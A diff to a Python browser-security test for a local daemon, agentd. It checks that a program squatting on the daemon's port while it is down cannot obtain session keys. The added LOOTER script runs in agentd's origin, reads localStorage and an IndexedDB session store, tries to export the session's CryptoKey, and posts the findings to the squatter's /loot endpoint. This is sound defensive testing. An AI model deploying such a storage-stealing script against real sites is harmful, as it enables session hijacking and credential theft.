@@ -1,7 +1,9 @@
 """A program that takes the web port while agentd is down gets nothing of a session, in a real
 headless Chromium: an inbox tab left open retries every 2 s and a notification's link is opened
 while the squatter answers; neither sends it a key or a signature, because the squatter cannot
-prove it holds the session (web/proof.py). Back up, agentd refuses everything the squatter saw,
+prove it holds the session (web/proof.py); a page of its own, opened by that link, runs in
+agentd's origin but finds no key it can read or export (the page keeps it as a non-extractable
+CryptoKey in IndexedDB, never as text in localStorage). Back up, agentd refuses everything the squatter saw,
 and a request made to look stolen (the session in any header, a signature for a challenge agentd
 never gave) approves nothing, while the operator's own tab approves. A daemon that finds its port
 taken at start ends every session. Skipped loudly when Chromium or Playwright is missing."""
@@ -56,6 +58,8 @@ def squatter(port: int, seen: Seen) -> Iterator[ThreadingHTTPServer]:
             if self.path.startswith("/prove"):
                 out = json.dumps({"challenge": "c" * 24, "proof": "0" * 64}).encode()
                 kind = "application/json"
+            elif self.path.startswith("/items/"):  # a page of its own, in agentd's origin
+                out, kind = LOOTER.encode(), "text/html"
             else:
                 out, kind = b"<!doctype html><main>not agentd</main>", "text/html"
             self.send_response(200)
@@ -80,6 +84,22 @@ def squatter(port: int, seen: Seen) -> Iterator[ThreadingHTTPServer]:
         thread.join()
 
 
+# What a squatter's page does in agentd's origin: take everything of the session this origin's
+# storage holds (localStorage; the IndexedDB the pages keep the session in, its key exported),
+# and post it home.
+LOOTER = """<!doctype html><main>not agentd</main><script>
+(async()=>{const loot={local:{...localStorage}};
+  try{const v=await new Promise((ok,no)=>{const o=indexedDB.open('agentd');o.onerror=()=>no(o.error);
+    o.onsuccess=()=>{const d=o.result;if(!d.objectStoreNames.contains('session'))return ok(null);
+      const r=d.transaction('session').objectStore('session').get('session');
+      r.onsuccess=()=>ok(r.result);r.onerror=()=>no(r.error)}});
+    loot.kept=v&&{id:v.id,extractable:v.key.extractable};
+    loot.raw=[...new Uint8Array(await crypto.subtle.exportKey('raw',v.key))].map(x=>
+      String.fromCharCode(x)).join('')}catch(e){loot.error=String(e)}
+  await fetch('/loot',{method:'POST',body:JSON.stringify(loot)})})()
+</script>"""
+
+
 def refused(r: httpx.Response) -> bool:
     return r.status_code in (401, 403) or (
         r.status_code == 303 and r.headers["location"].startswith("/login")
@@ -98,10 +118,11 @@ async def test_web_browser_a_port_squatter_gets_no_session_and_nothing_it_saw_ap
     (item,) = home.store.read(lambda c: qi.list_items(c, status="open"))
     base = f"http://127.0.0.1:{port}"
     context, tab = await logged_in(browser, home, base)  # the inbox tab, left open
-    held = await tab.evaluate(
-        "localStorage.getItem('agentd-session') || localStorage.getItem('agentd-key')"
-    )
-    assert held
+    token = home.paths.api_token.read_text().strip()
+    (live,) = sessions.live(home.store, token)
+    found = sessions.check(home.store, live.session_id, token)
+    assert found is not None
+    held = f"{live.session_id}.{found[1]}"  # what the page holds: the session's id and key
 
     await daemon.shutdown()  # a restart, an upgrade, a crash: the port is free
     seen = Seen()
@@ -113,12 +134,15 @@ async def test_web_browser_a_port_squatter_gets_no_session_and_nothing_it_saw_ap
         await wait_for(lambda: seen.proves() >= 3 or len(seen.requests) >= 6, timeout_s=60)
         link = await context.new_page()
         await link.goto(f"{base}/items/{item.item_id}")
-        await wait_for(lambda: any(p.startswith("/items/") for _, p, _, _ in seen.requests))
+        await wait_for(lambda: any(p == "/loot" for _, p, _, _ in seen.requests))
         await link.close()
     finally:
         next(taken, None)
     sent = seen.text()
     assert held not in sent and held.split(".")[-1] not in sent, sent
+    (loot,) = [json.loads(b) for _, p, _, b in seen.requests if p == "/loot"]
+    assert loot["local"] == {} and loot["kept"]["extractable"] is False, loot
+    assert "raw" not in loot and "InvalidAccessError" in loot["error"], loot  # not exportable
     for _, _, headers, body in seen.requests:
         assert "x-agentd-key" not in headers and "x-agentd-auth" not in headers, headers
         assert b"_auth" not in body and b"_key" not in body, body
